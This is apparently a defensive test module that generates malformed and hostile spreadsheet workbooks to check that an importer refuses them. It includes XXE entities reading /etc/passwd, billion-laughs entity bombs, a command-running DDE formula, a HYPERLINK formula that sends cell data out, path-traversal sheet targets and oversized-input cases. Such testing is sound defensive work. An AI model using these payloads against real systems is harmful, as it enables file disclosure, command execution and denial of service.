"""Workbooks whose archive is sound and whose XML is not: entities, depths, sizes, cells that lie."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

from tests.hostile.case import EITHER, READ, REFUSED, Case, book, part_of, parts

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
ROOMS = part_of("Rooms")
STRINGS, STYLES, BOOK = "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
RELATIONS, TYPES = "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
IN_BOOK = ROOMS.removeprefix("xl/")
ROOM_CELLS = ("Id", "Name", "Seats", "Equipment"), ("hall", "Hall", "200", "webcast")


def markup_cases() -> Iterator[Case]:
    """Yield all of them."""
    yield from _document_types()
    yield from _encodings()
    yield from _sizes()
    yield from _depths()
    yield from _places()
    yield from _values()
    yield from _books()


def sheet(rows: str, before: str = "", after: str = "") -> bytes:
    """Return the XML of a worksheet."""
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    return f"{head}<worksheet {NS}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>".encode()


def row(cells: str, number: int | str = 1) -> str:
    """Return one row."""
    return f'<row r="{number}">{cells}</row>'


def text(content: str, place: str = "") -> str:
    """Return a cell with a text of its own."""
    reference = f' r="{place}"' if place else ""
    return f'<c{reference} t="inlineStr"><is><t xml:space="preserve">{content}</t></is></c>'


def rooms(*extra: str, last: str = "", before: str = "", after: str = "") -> bytes:
    """Return a sheet of rooms with some cells at the end of its one row, and rows below it."""
    head, hall = (("".join(map(text, cells))) for cells in ROOM_CELLS)
    return sheet(row(head) + row(hall + "".join(extra), 2) + last, before, after)


def in_rooms(name: str, content: bytes | Callable[[], bytes], end: str = REFUSED, told: str = "") -> Case:
    """Return a workbook with another sheet of rooms."""
    return Case(name, book({ROOMS: content}, zipfile.ZIP_STORED), end, told)


def _declared(part: str, declaration: str, inside: str = "") -> bytes:
    """Return a part with a document type, and some text in its first element."""
    content = parts()[part].decode()
    head, _, rest = content.partition("?>")
    start, mark, end = rest.partition(">")
    return f"{head}?>{declaration}{start}{mark}{inside}{end}".encode()


def _document_types() -> Iterator[Case]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    declarations = {
        "an empty document type": "<!DOCTYPE x>",
        "a document type in a file": '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        "a document type on the net": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
        "a public document type": '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:9/x.dtd">',
        "an entity of a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
        "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>',
        "a quadratic blow-up": f'<!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]>',
    }
    for name, declaration in declarations.items():
        yield Case(name, book({ROOMS: _declared(ROOMS, declaration, "&e;")}), told="declares a document type")
    for part in (STRINGS, STYLES, BOOK, RELATIONS, TYPES):
        content = _declared(part, declarations["an entity of a file"], "&e;")
        yield Case(f"an entity of a file in {part}", book({part: content}), told="declares a document type")
    yield in_rooms("an entity nobody declared", rooms(text("&nbsp;")), told="damaged")


def _encodings() -> Iterator[Case]:
    plain = rooms().decode()
    for name in ("utf-16", "latin-1"):
        yield in_rooms(f"XML in {name}", plain.replace("UTF-8", name).encode(name), READ)
    for name in ("utf-7", "rot13", "hex", "utf-32", "no-such"):
        yield in_rooms(f"XML that says it is {name}", plain.replace("UTF-8", name).encode(), told="damaged")
    yield in_rooms("XML in UTF-16 that says UTF-8", plain.encode("utf-16"), EITHER)
    yield in_rooms("XML that is not UTF-8", plain.replace("Hall", "H\xe4ll").encode("latin-1"), told="damaged")
    yield in_rooms("XML with a NUL", plain.replace("Hall", "H\0ll").encode(), told="damaged")
    yield in_rooms("XML with a half of a character", plain.replace("Hall", "H&#xD800;ll").encode(), told="damaged")
    yield in_rooms("XML with a control character", plain.replace("Hall", "H&#1;ll").encode(), told="damaged")
    for hidden in ("_x0000_", "_x0007_", "_xFFFE_", "_x001B_"):
        told = "invisible character" if hidden != "_xFFFE_" else ""
        end = EITHER if hidden == "_xFFFE_" else REFUSED
        yield in_rooms(f"a name with {hidden}", plain.replace("Hall", f"H{hidden}ll").encode(), end, told)
    yield in_rooms("a name with half of a character", plain.replace("Hall", "H_xD800_ll").encode(), READ)
    yield in_rooms("XML with prefixes", _prefixed(plain).encode(), READ)
    yield in_rooms("XML that is empty", b"", told="damaged")
    yield in_rooms("XML that goes on after its end", (plain + "<x/>").encode(), told="damaged")


def _prefixed(plain: str) -> str:
    found = plain.replace("</", "\0").replace("<?", "\1").replace("<", "<s:").replace("\1", "<?").replace("\0", "</s:")
    return found.replace("xmlns=", "xmlns:s=")


def _sizes() -> Iterator[Case]:
    big = 10_000_000
    yield in_rooms("a cell of 10 MB in a workbook", lambda: rooms(text("ab12" * (big // 4))), told="32,767 characters")
    yield in_rooms(
        "a formula of 10 MB", lambda: rooms(f"<c><f>{'1+22' * (big // 4)}</f></c>"), told="32,767 characters"
    )
    yield in_rooms("a number of 10 MB", lambda: rooms(f"<c><v>{'1729' * (big // 4)}</v></c>"), told="32,767 characters")
    strings = f"<sst {NS}><si><t>{'ab12' * (big // 4)}</t></si></sst>".encode()
    yield Case("a shared text of 10 MB", book({STRINGS: strings}, zipfile.ZIP_STORED), told="32,767 characters")
    yield in_rooms("an attribute of 10 MB", lambda: rooms(f'<c s="{"17" * (big // 2)}"/>'), told="a tag of more than")
    yield in_rooms("a name of 10 MB", lambda: rooms(f"<{'x' * big}/>"), told="a tag of more than")
    yield in_rooms("a comment of 10 MB", lambda: rooms(f"<!--{'ab12' * (big // 4)}-->"), told="a tag of more than")
    yield in_rooms("an instruction of 10 MB", lambda: rooms(f"<?x {'ab12' * (big // 4)}?>"), told="a tag of more than")
    yield in_rooms("10 MB between tags", lambda: rooms(before=" \n\t." * (big // 4)), READ)
    yield in_rooms(
        "a tag that never ends",
        lambda: rooms()[: -len("</sheetData></worksheet>")] + b"<c a='" + b"a" * 1_000_000,
        told="a tag of more than",
    )
    rows = "".join(f'<row r="{number}"/>' for number in range(3, 1_048_577))
    yield in_rooms("a million empty rows", lambda: rooms(last=rows), EITHER)
    yield in_rooms("a million styled cells", lambda: rooms(last=row('<c s="1"/>' * 1_200_000, 3)), told="800,000 el")
    cells = "".join(row(text("a"), number) for number in range(3, 30_000))
    yield in_rooms("30,000 rows", lambda: rooms(last=cells), told="more than 20,000 rows")
    yield in_rooms("a comment a row", lambda: rooms(last="<!--x-->" * 1_000_000), READ)
    yield in_rooms("10,000 names of elements", rooms(last="".join(f"<a{n}/>" for n in range(200_000))), told="names")
    many = " ".join(f'a{n}="1"' for n in range(20_000))
    yield in_rooms("20,000 attributes", rooms(f"<c {many}/>"), told="different names")
    spaces = " ".join(f'xmlns:a{n}="u:{n}"' for n in range(4_000))
    yield in_rooms("4,000 namespaces", rooms(f"<c {spaces}/>"), READ)
    merges = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, 100_000))
    yield in_rooms("100,000 merges", rooms(after=f"<mergeCells>{merges}</mergeCells>"), READ)
    texts = f"<sst {NS}>{'<si><t>a</t></si>' * 300_001}</sst>".encode()
    yield Case("300,001 shared texts", book({STRINGS: texts}, zipfile.ZIP_STORED), told="more than 300,000 texts")
    many = '<xf numFmtId="14"/>' * 300_000
    styles = f"<styleSheet {NS}><cellXfs>{many}</cellXfs></styleSheet>".encode()
    yield Case("300,000 styles", book({STYLES: styles}, zipfile.ZIP_STORED), EITHER)
    full = row("<c><v>1</v></c>" * 250, 3) * 1_201
    yield in_rooms("300,000 cells", lambda: rooms(last=full), told="300,000 cells")


def _depths() -> Iterator[Case]:
    for depth in (50, 100_000):
        nested = "<x>" * depth + "</x>" * depth
        yield in_rooms(f"XML nested in {depth:,} levels", rooms(nested), told="more than 40 levels")
    yield in_rooms("XML that opens 100,000 levels", sheet("<x>" * 100_000), told="more than 40 levels")
    yield in_rooms("a cell in a cell", rooms(f"<c>{text('a')}</c>"), EITHER)
    yield in_rooms("a row in a row", rooms(row(row(text("a")))), EITHER)


def _places() -> Iterator[Case]:
    whole = '<dimension ref="A1:XFD1048576"/>'
    yield in_rooms("a sheet that says it has a million rows", rooms(before=whole), READ)
    yield in_rooms("a sheet that says it has no cell", rooms(before='<dimension ref="A1"/>'), READ)
    yield in_rooms("a sheet that says nonsense of its size", rooms(before='<dimension ref="XFD"/>'), READ)
    yield in_rooms("100,000 columns", lambda: rooms(text("a") * 100_000), told="250 columns are read")
    yield in_rooms("a cell in the last column", rooms(text("a", "XFD2")), told="Cell XFD2 is filled")
    for place in ("ZZZZ2", "A0", "2A", "A-1", "A" * 60_000, "ا٢", "A99999999"):
        yield in_rooms(f"a cell at {place[:9]}", rooms(text("a", place)), told="which no worksheet has")
    for number in ("1048577", "999999999"):
        yield in_rooms(f"a row {number}", rooms(last=row(text("a"), number)), told="the last one of a worksheet")
    for number in ("-3", "0", "1e9", "x", "9" * 5_000, "3.5", "٣"):
        yield in_rooms(f"a row {number[:9]} of {len(number)} letters", rooms(last=row(text("a"), number)), EITHER)
    yield in_rooms(
        "a filled cell in the last row", rooms(last=row(text("a", "A1048576"), 1_048_576)), told="row 1048576"
    )
    yield in_rooms("rows in no order", rooms(last=row(text("x"), 2) + row(text("x"), 1)), REFUSED)
    yield in_rooms("no sheet data", f"<worksheet {NS}/>".encode(), told="no header")
    yield in_rooms("another root", b"<svg/>", told="no header")


def _values() -> Iterator[Case]:
    for content in ("9" * 5_000, "1e999", "NaN", "INF", "-1e308", "0x10", "1_0", "٣", "--1", "1" * 41):
        cell = f"<c><v>{content}</v></c>"
        yield in_rooms(f"the number {content[:9]}", rooms().replace(text("200").encode(), cell.encode()), EITHER)
    for content in ("99999999", "-5", "1e300", "NaN", "2958466"):
        cell = f'<c s="1"><v>{content}</v></c>'
        dated = f'<styleSheet {NS}><cellXfs><xf/><xf numFmtId="14"/></cellXfs></styleSheet>'.encode()
        seats = rooms().replace(text("200").encode(), cell.encode())
        yield Case(f"the date {content}", book({ROOMS: seats, STYLES: dated}), EITHER)
    for index in ("99999999", "-1", "1e3", "x", "9" * 5_000, ""):
        cell = f'<c t="s"><v>{index}</v></c>'
        yield in_rooms(f"the shared text {index[:9]}", rooms(cell), READ if not index else REFUSED)
    for style in ("99999", "-1", "x", "9" * 5_000):
        yield in_rooms(f"the style {style[:9]}", rooms(f'<c s="{style}"><v>1</v></c>'), READ)
    yield in_rooms("a cell of no known type", rooms('<c t="zz"><v>a</v></c>'), READ)
    formulas = {
        "a formula": "<f>1+1</f><v>2</v>",
        "a formula that runs a program": "<f>cmd|'/c calc'!A0</f>",
        "a formula that calls out": '<f>HYPERLINK("http://127.0.0.1:9/"&amp;A1)</f><v>x</v>',
        "a formula of another file": "<f>[1]Sheet1!A1</f>",
        "a formula over a range": '<f t="array" ref="A1:XFD1048576">A1:XFD1048576</f>',
        "a table of data": '<f t="dataTable" ref="A1:B2" dt2D="1" r1="A1" r2="A2"/>',
    }
    for name, inside in formulas.items():
        seats = rooms().replace(text("200").encode(), f"<c>{inside}</c>".encode())
        yield in_rooms(name, seats, told="formula")
    seats = rooms().replace(text("200").encode(), b'<c t="e"><v>#REF!</v></c>')
    yield in_rooms("an error of a formula", seats)
    shared = row('<c><f t="shared" si="0" ref="A3:A99">' + "1+" * 16_000 + "1</f></c>", 3)
    shared += "".join(row('<c><f t="shared" si="0"/></c>', number) for number in range(4, 18_000))
    yield in_rooms("a long formula shared by 18,000 cells", lambda: rooms(last=shared))
    formats = f'<styleSheet {NS}><numFmts><numFmt numFmtId="200" formatCode="{"[" * 100_000}"/></numFmts>'
    formats += '<cellXfs><xf/><xf numFmtId="200"/></cellXfs></styleSheet>'
    yield Case("a number format of 100,000 brackets", book({STYLES: formats.encode()}), EITHER)


def _books() -> Iterator[Case]:
    def edited(part: str, old: str, new: str) -> Mapping[str, bytes]:
        content = parts()[part].decode()
        assert old in content, (part, old)
        return {part: content.replace(old, new).encode()}

    outside = edited(RELATIONS, f'Target="{IN_BOOK}"', 'Target="http://127.0.0.1:9/a" TargetMode="External"')
    yield Case("a sheet on the net", book(outside))
    for target in ("../../../../etc/passwd", "file:///etc/passwd", "/etc/passwd", "", "worksheets/"):
        there = edited(RELATIONS, IN_BOOK, target)
        yield Case(f"a sheet at {target or 'nowhere'}", book(there), told="is missing")
    itself = edited(RELATIONS, IN_BOOK, "workbook.xml")
    yield Case("a sheet that is the workbook", book(itself), told="no header")
    every = parts()[RELATIONS].decode()
    for number in range(1, 30):
        every = every.replace(f"worksheets/sheet{number}.xml", "worksheets/sheet5.xml")
    yield Case("every sheet is the same", book({RELATIONS: every.encode()}))
    yield Case("no sheet", book({BOOK: f"<workbook {NS}><sheets/></workbook>".encode()}), told="no worksheet")
    yield Case("two sheets of one name", book(edited(BOOK, 'name="Rooms"', 'name="Sessions"')), told="Sessions")
    for name in ("", "x" * 10_000, "Rooms\u202e", "=1+1", "../Rooms", "&#9;Rooms&#10;"):
        yield Case(f"a sheet called {name[:9]!r}", book(edited(BOOK, 'name="Rooms"', f'name="{name}"')), EITHER)
    more = "".join(f'<sheet name="Extra {n}" sheetId="{n}" r:id="rId2"/>' for n in range(100, 5_000))
    yield Case("5,000 sheets", book(edited(BOOK, "</sheets>", f"{more}</sheets>")), EITHER)
    yield Case("9,000 placements", _placed(9_000), told="more faults")
    link = {"xl/externalLinks/externalLink1.xml": b"<externalLink/>", "xl/connections.xml": b"<connections/>"}
    yield Case("links to other files", book(link), READ)


def _placed(count: int) -> Callable[[Path], Path]:
    """Return a workbook whose sheet of walking times is one of placements instead."""
    head = row("".join(map(text, ("Session", "Sitting", "Period", "Room", "Start", "Pinned"))))
    cells = "".join(map(text, ("opening", "1", "morning", "hall", "10:00", "yes")))
    named = parts()[BOOK].decode().replace('name="Walking times"', 'name="Placements"').encode()
    rows = "".join(row(cells, number) for number in range(2, count))
    return book({BOOK: named, part_of("Walking times"): sheet(head + rows)}, zipfile.ZIP_STORED)
